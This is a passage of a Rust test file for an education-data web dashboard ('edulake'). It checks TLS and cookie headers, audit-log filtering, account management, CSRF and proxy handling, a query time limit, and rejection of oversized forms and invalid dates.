            String::from_utf8_lossy(&o.stdout).to_lowercase(),
        )
    };
    let (ok, headers) = curl(&[&format!("https://127.0.0.1:{port}/login")]);
    assert!(ok, "{headers}");
    assert!(headers.starts_with("http/"), "{headers}");
    assert!(headers.contains(" 200"), "{headers}");
    let cookie = headers
        .lines()
        .find(|l| l.starts_with("set-cookie: edulake_sign_in="))
        .unwrap();
    assert!(
        cookie.contains("secure") && cookie.contains("httponly"),
        "{cookie}"
    );
    assert!(
        headers.contains("strict-transport-security: max-age="),
        "{headers}"
    );
    let (_, headers) = curl(&[&format!("https://127.0.0.1:{port}/school/S1")]);
    assert!(
        headers.contains(" 303") && headers.contains("location: /login"),
        "{headers}"
    );
    // Plain HTTP on the TLS port gets no page.
    let (_, headers) = curl(&[&format!("http://127.0.0.1:{port}/login")]);
    assert!(!headers.contains(" 200"), "{headers}");
}

/// The administrator reads the audit log filtered and downloads it; a sign-in form larger
/// than a form is refused before it is read.
#[tokio::test]
async fn the_audit_log_is_filtered_and_downloaded_by_the_administrator() {
    let f = crate::access::three_schools().await;
    let state = cockpit(&f).await;
    let admin = signed_in(&state, "admin", Role::BureauAdmin, Scope::Bureau);
    let clerk = signed_in(
        &state,
        "clerk",
        Role::SchoolClerk,
        Scope::School("S1".into()),
    );
    get(&state, &clerk, "/school/S1").await;
    get(&state, &clerk, "/school/S2").await;
    get(&state, &admin, "/school/S2").await;
    let page = get(&state, &admin, "/audit?login=clerk&action=page").await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(
        page.body.contains("/school/S1") && page.body.contains("/school/S2"),
        "{}",
        page.body
    );
    assert!(page.body.contains("refused") && page.body.contains("school:S1"));
    let csv = get(&state, &admin, "/audit?login=clerk&action=page&format=csv").await;
    assert_eq!(csv.headers["content-type"], "text/csv; charset=utf-8");
    let lines: Vec<&str> = csv.body.lines().collect();
    assert_eq!(lines.len(), 3, "{}", csv.body);
    assert!(
        lines[1].contains("\"/school/S2\"") && lines[1].contains("\"refused\""),
        "{}",
        csv.body
    );
    assert!(
        lines[2].contains("\"/school/S1\"") && lines[2].contains("\"ok\""),
        "{}",
        csv.body
    );
    assert_eq!(
        get(&state, &clerk, "/audit").await.status,
        StatusCode::FORBIDDEN
    );
    // A sign-in form of a megabyte is not a sign-in form.
    let big = format!("login=x&password={}", "a".repeat(1 << 20));
    let a = send(
        &state,
        &Browser::anonymous(),
        "POST",
        "/login",
        Some("application/x-www-form-urlencoded"),
        big.into_bytes(),
    )
    .await;
    assert_eq!(a.status, StatusCode::PAYLOAD_TOO_LARGE);
}

/// A runaway query a clerk types is stopped within the time limit, and the cockpit answers.
#[tokio::test]
async fn a_clerks_runaway_query_is_stopped_within_the_limit() {
    // Each test runs in a process of its own (nextest): the limit is this test's alone.
    std::env::set_var("EDULAKE_QUERY_SECONDS", "2");
    let f = crate::access::three_schools().await;
    let state = cockpit(&f).await;
    let clerk = signed_in(
        &state,
        "clerk",
        Role::SchoolClerk,
        Scope::School("S1".into()),
    );
    let started = std::time::Instant::now();
    let sql = "SELECT count(*) FROM generate_series(1, 1000000) a, generate_series(1, 1000000) b";
    let a = get(&state, &clerk, &format!("/sql?format=csv&q={}", pct(sql))).await;
    assert_eq!(a.status, StatusCode::BAD_REQUEST, "{}", a.body);
    assert!(a.body.contains("stopped"), "{}", a.body);
    assert!(
        started.elapsed() < std::time::Duration::from_secs(15),
        "{:?}",
        started.elapsed()
    );
    let ok = get(
        &state,
        &clerk,
        &format!(
            "/sql?format=csv&q={}",
            pct("SELECT count(*) AS n FROM attendance_rate_school")
        ),
    )
    .await;
    assert_eq!(ok.status, StatusCode::OK, "{}", ok.body);
}

/// The administrator makes a district officer, a clerk and a researcher in the cockpit, each
/// password shown once; disables one and gives another a new password.
#[tokio::test]
async fn the_administrator_manages_accounts_in_the_cockpit() {
    let f = crate::access::three_schools().await;
    let state = cockpit(&f).await;
    let admin = signed_in(&state, "admin", Role::BureauAdmin, Scope::Bureau);
    let form = |browser: &Browser, fields: &str| {
        let body = format!("csrf={}&lang=en&{fields}", browser.csrf).into_bytes();
        let state = state.clone();
        let browser = browser.clone();
        async move {
            send(
                &state,
                &browser,
                "POST",
                "/users",
                Some("application/x-www-form-urlencoded"),
                body,
            )
            .await
        }
    };
    let password_of = |page: &str| {
        page.split("<code class=\"password\">")
            .nth(1)
            .and_then(|r| r.split('<').next())
            .unwrap_or_else(|| panic!("no password shown: {page}"))
            .to_string()
    };
    let mut passwords = Vec::new();
    for (login, role, scope, want) in [
        (
            "zhang",
            "district_officer",
            "D1",
            Scope::District("D1".into()),
        ),
        ("li", "school_clerk", "s2", Scope::School("S2".into())),
        ("wu", "researcher", "D2", Scope::District("D2".into())),
    ] {
        let a = form(
            &admin,
            &format!("action=add&login={login}&role={role}&scope={scope}"),
        )
        .await;
        assert_eq!(a.status, StatusCode::OK, "{}", a.body);
        let password = password_of(&a.body);
        assert_eq!(password.len(), 16);
        let account = state.accounts.get(login).unwrap().unwrap();
        assert_eq!(account.scope, want);
        assert!(matches!(
            state.accounts.sign_in(login, &password, "local").unwrap(),
            edulake_serve::accounts::SignIn::Started(..)
        ));
        // Shown once: the list does not show it again.
        assert!(!get(&state, &admin, "/users").await.body.contains(&password));
        passwords.push(password);
    }
    // A school or district the registry does not know, and a form without its token.
    let a = form(&admin, "action=add&login=x&role=school_clerk&scope=S9").await;
    assert_eq!(a.status, StatusCode::BAD_REQUEST);
    let mut forged = admin.clone();
    forged.csrf = "0".repeat(64);
    assert_eq!(
        form(&forged, "action=disable&login=li").await.status,
        StatusCode::FORBIDDEN
    );
    assert!(!state.accounts.get("li").unwrap().unwrap().disabled);
    // Not its own account.
    let a = form(&admin, "action=disable&login=admin").await;
    assert!(a.body.contains("cannot disable your own"), "{}", a.body);
    assert!(!state.accounts.get("admin").unwrap().unwrap().disabled);
    // Disabled, and a new password.
    assert_eq!(
        form(&admin, "action=disable&login=li").await.status,
        StatusCode::OK
    );
    assert!(state.accounts.get("li").unwrap().unwrap().disabled);
    let a = form(&admin, "action=reset&login=zhang").await;
    let fresh = password_of(&a.body);
    assert_ne!(fresh, passwords[0]);
    assert!(matches!(
        state
            .accounts
            .sign_in("zhang", &passwords[0], "local")
            .unwrap(),
        edulake_serve::accounts::SignIn::Refused
    ));
    let log = state
        .accounts
        .audit_log(&AuditFilter {
            login: Some("admin".into()),
            ..Default::default()
        })
        .unwrap();
    for (action, target) in [
        ("account_add", "li school_clerk school:S2"),
        ("account_disable", "li"),
        ("account_reset_password", "zhang"),
    ] {
        assert!(
            log.iter().any(|e| e.action == action && e.target == target),
            "{action} {target}"
        );
    }
}

/// Without accounts the cockpit answers its computer's own user only: a request passed on by
/// a proxy is asked to sign in; a date no page is about is a bad request, not a crash.
#[tokio::test]
async fn a_proxied_request_is_not_the_computers_own_user_and_odd_dates_are_refused() {
    let f = crate::access::three_schools().await;
    let state = cockpit(&f).await;
    let owner = Browser::anonymous();
    assert_eq!(
        get(&state, &owner, "/school/S1").await.status,
        StatusCode::OK
    );
    let response = app(state.clone())
        .oneshot(
            Request::builder()
                .uri("/school/S1")
                .header("host", "127.0.0.1:8080")
                .header("x-forwarded-for", "10.1.2.3")
                .body(Body::empty())
                .unwrap(),
        )
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::SEE_OTHER);
    for uri in [
        "/school/S1?to=-262143-01-01",
        "/?from=+262142-12-31",
        "/download?indicator=attendance_rate&to=-262143-01-01&format=csv",
        "/data?from=12345-01-01",
    ] {
        assert_eq!(
            get(&state, &owner, uri).await.status,
            StatusCode::BAD_REQUEST,
            "{uri}"
        );
    }
}
